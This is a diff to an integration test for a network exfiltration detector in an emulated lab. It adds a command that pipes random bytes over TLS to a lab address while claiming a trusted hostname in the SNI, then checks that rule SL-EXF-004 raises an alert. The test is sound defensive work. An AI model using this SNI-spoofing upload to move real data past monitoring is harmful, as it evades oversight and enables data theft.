@@ -13,7 +13,7 @@ import time
 from pathlib import Path
 from typing import Any
 
-from emulation.lab import SECOND_IP, wait_until
+from emulation.lab import SECOND_IP, VAULT_IP, wait_until
 from emulation.scenarios import S_CLIENT
 
 from .harness import SINK_IP, SLUICE, Docker, SensorProc, SinkNet, action, cid_of, run_container, window_closed_after
@@ -179,6 +179,27 @@ def test_baseline_by_name_moves_silently_and_flags_new_name(base: Path, docker: 
         s.settle(3)
         alerts = [x for x in s.docs() if x["event"]["kind"] == "alert" and cid_of(x) == moved]
         assert alerts == [], [a["message"] for a in alerts]
+        # the container's own DNS answer vouched for the name on the new address
+        named = [x for x in _flows(s, moved) if x["destination"].get("domain") == SVC]
+        assert named and all(x["sluice"]["flow"]["name_vouched"] is True for x in named), named
+
+        # the learned name claimed in the SNI of an upload to an address it
+        # never resolved to: the claim does not make the address known
+        claim = (
+            f"head -c 1500000 /dev/urandom > /tmp/up; (cat /tmp/up; sleep 2) | "
+            f"{S_CLIENT} -connect {VAULT_IP}:443 -servername {SVC} >/dev/null 2>&1"
+        )
+        claimed = run_container(docker, net, claim, timeout=90)
+        c = s.wait_for(
+            lambda x: x["event"]["kind"] == "alert" and cid_of(x) == claimed and x["rule"]["id"] == "SL-EXF-004",
+            timeout=20,
+            what="SL-EXF-004 for a learned name claimed in the SNI of a new address",
+        )
+        assert c["destination"]["ip"] == VAULT_IP and c["destination"]["domain"] == SVC
+        assert c["tls"]["client"]["server_name"] == SVC and c["sluice"]["name_vouched"] is False
+        assert all(
+            x["sluice"]["flow"]["name_vouched"] is False for x in _flows(s, claimed) if x["destination"].get("domain")
+        )
 
         # a new name on the known address
         net.set_names({NEW: [SINK_IP]})
